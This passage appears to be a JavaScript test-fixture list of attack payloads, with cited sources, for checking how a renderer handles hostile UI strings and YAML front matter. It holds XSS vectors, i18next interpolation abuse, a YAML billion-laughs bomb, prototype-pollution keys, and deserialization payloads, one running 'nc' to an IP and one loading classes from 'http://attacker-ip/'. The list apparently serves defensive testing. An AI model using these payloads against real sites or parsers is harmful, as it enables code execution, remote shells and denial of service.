  { id: 'ui-img-onerror', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload), in a UI string', attack: 'event-handler', place: 'ui', payload: 'Skip to main content<img src=x onerror=alert(1)>', live: 'both' },
  { id: 'ui-a-href-js', origin: 'OWASP XSS Filter Evasion Cheat Sheet: JavaScript Link Location, as a UI string', attack: 'url-scheme', place: 'ui', payload: '<a href="javascript:alert(1)">Skip to main content</a>', live: 'no' },
  { id: 'ui-script', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications, in a UI string', attack: 'script', place: 'ui', payload: 'Main content<script>alert(1)</script>', live: 'static' },
  { id: 'ui-svg-animate-onbegin', origin: 'PortSwigger Cross-site scripting cheat sheet: onbegin (animate), in a UI string', attack: 'event-handler', place: 'ui', payload: 'Language<svg><animate onbegin=alert(1) attributeName=x dur=1s>', live: 'both' },
  { id: 'ui-iframe-srcdoc', origin: 'PortSwigger Cross-site scripting cheat sheet: iframe srcdoc, in a UI string', attack: 'embedding', place: 'ui', payload: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', live: 'both' },
  { id: 'ui-details-ontoggle', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5 (details ontoggle), in a UI string', attack: 'event-handler', place: 'ui', payload: '<details open ontoggle=alert(1)>Language</details>', live: 'both' },
  { id: 'ui-input-autofocus', origin: 'PayloadsAllTheThings, XSS Injection: XSS for HTML5 (input autofocus), in a UI string', attack: 'event-handler', place: 'ui', payload: 'Language <input autofocus onfocus=alert(1)>', live: 'both' },
  { id: 'ui-form-formaction', origin: 'HTML5 Security Cheatsheet (html5sec.org, Cure53), via cure53/DOMPurify test/fixtures/expect.mjs #72, in a UI string', attack: 'form', place: 'ui', payload: '<form><button formaction="javascript:alert(1)">Switch language</button></form>', live: 'no' },
  { id: 'ui-style-redress', origin: 'PayloadsAllTheThings, XSS Injection: Exploit code or POC, UI redressing (by style)', attack: 'style', place: 'ui', payload: '<style>body{display:none}</style>Reports', live: 'no' },
  { id: 'ui-noscript-mxss', origin: 'Masato Kinugawa, Google Search mXSS (2019), in a UI string', attack: 'mutation', place: 'ui', payload: 'Language<noscript><p title="</noscript><img src=x onerror=alert(1)>">', live: 'both' },
  { id: 'ui-entity-encoded-tag', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Character Escape Sequences, decoded once too often', attack: 'markdown', place: 'ui', payload: 'Reports &lt;img src=x onerror=alert(1)&gt;', live: 'no' },
  { id: 'ui-json-unicode-escape', origin: 'After PortSwigger Cross-site scripting cheat sheet: VueJS reflected, Version 2 ($el.innerHTML with \\u003c escapes): markup written as JSON escapes, as ui.json could hold it', attack: 'markdown', place: 'ui', payload: String.raw`\u003cimg src=x onerror=alert(1)\u003e`, live: 'no' },
  { id: 'ui-interpolation', origin: 'i18next documentation, Interpolation ({{value}})', attack: 'markdown', place: 'ui', payload: 'Skip to {{x}}', live: 'no' },
  { id: 'ui-interpolation-unescaped', origin: 'i18next documentation, Interpolation (unescaped {{- value}})', attack: 'markdown', place: 'ui', payload: '{{- languageName}}', live: 'no' },
  { id: 'ui-nesting', origin: 'i18next documentation, Nesting ($t(namespace:key))', attack: 'markdown', place: 'ui', payload: 'Published by $t(ui:publisher)', live: 'no' },
  { id: 'ui-nesting-self', origin: 'i18next documentation, Nesting (a key nesting itself)', attack: 'markdown', place: 'ui', payload: '$t(skipLink)', live: 'no' },
  { id: 'ui-nesting-default-value', origin: 'i18next documentation, Nesting (passing options), defaultValue carrying PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload)', attack: 'markdown', place: 'ui', payload: '$t(ui:missing, {"defaultValue": "<img src=x onerror=alert(1)>"})', live: 'both' },
  { id: 'ui-angular-charat-sandbox', origin: 'PayloadsAllTheThings, XSS Injection, XSS in Angular: AngularJS 1.4.0 - 1.4.9 sandbox escape', attack: 'markdown', place: 'ui', payload: `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}`, live: 'no' },

  // ---------------------------------------------------------------------
  // Front matter: extra YAML lines.
  // ---------------------------------------------------------------------
  { id: 'yaml-billion-laughs', origin: 'Billion laughs attack, YAML variant (Wikipedia: Billion laughs attack)', attack: 'yaml', place: 'front-matter', payload: 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]' },
  { id: 'yaml-js-function', origin: 'js-yaml (js-yaml-js-types) !!js/function tag, the unsafe-load code execution class', attack: 'yaml', place: 'front-matter', payload: `run: !!js/function 'function () { alert(1) }'` },
  { id: 'yaml-js-undefined-regexp', origin: 'js-yaml (js-yaml-js-types) !!js/undefined and !!js/regexp tags', attack: 'yaml', place: 'front-matter', payload: 'nothing: !!js/undefined ~\npattern: !!js/regexp /(a+)+$/' },
  { id: 'yaml-python-object-apply', origin: 'PayloadsAllTheThings, Insecure Deserialization/YAML.md: PyYAML (!!python/object/apply)', attack: 'yaml', place: 'front-matter', payload: 'cmd: !!python/object/apply:os.system ["nc 10.10.10.10 4242"]' },
  { id: 'yaml-snakeyaml-script-engine', origin: 'PayloadsAllTheThings, Insecure Deserialization/YAML.md: SnakeYAML (ScriptEngineManager)', attack: 'yaml', place: 'front-matter', payload: 'engine: !!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://attacker-ip/"]\n  ]]\n]' },
  { id: 'yaml-proto-key', origin: 'Prototype pollution through a __proto__ key of parsed YAML (OWASP Prototype Pollution Prevention Cheat Sheet; js-yaml advisory GHSA-mh29-5h37-fv8m)', attack: 'yaml', place: 'front-matter', payload: '__proto__:\n  polluted: true\n  isAdmin: true' },
  { id: 'yaml-merge-proto', origin: 'js-yaml advisory GHSA-mh29-5h37-fv8m / CVE-2025-64718: prototype pollution in merge (<<)', attack: 'yaml', place: 'front-matter', payload: 'base: &base\n  __proto__:\n    polluted: true\n<<: *base' },
  { id: 'yaml-duplicate-title', origin: 'YAML 1.2 spec, mapping keys must be unique; duplicate key overriding the title', attack: 'yaml', place: 'front-matter', payload: 'title: <img src=x onerror=alert(1)>' },
  { id: 'yaml-huge-key', origin: 'YAML 1.2 spec, implicit keys are limited to 1024 characters', attack: 'yaml', place: 'front-matter', payload: `${'k'.repeat(1025)}: v` },
  { id: 'yaml-early-fence', origin: 'remark-frontmatter fences: a --- line inside the front matter ends it early, the rest becomes body', attack: 'yaml', place: 'front-matter', payload: '---\n<script>alert(1)</script>\nsource: x' },
  { id: 'yaml-binary-tag', origin: 'YAML 1.1 tag repository (!!binary), a base64 script smuggled as a value', attack: 'yaml', place: 'front-matter', payload: 'note: !!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
];
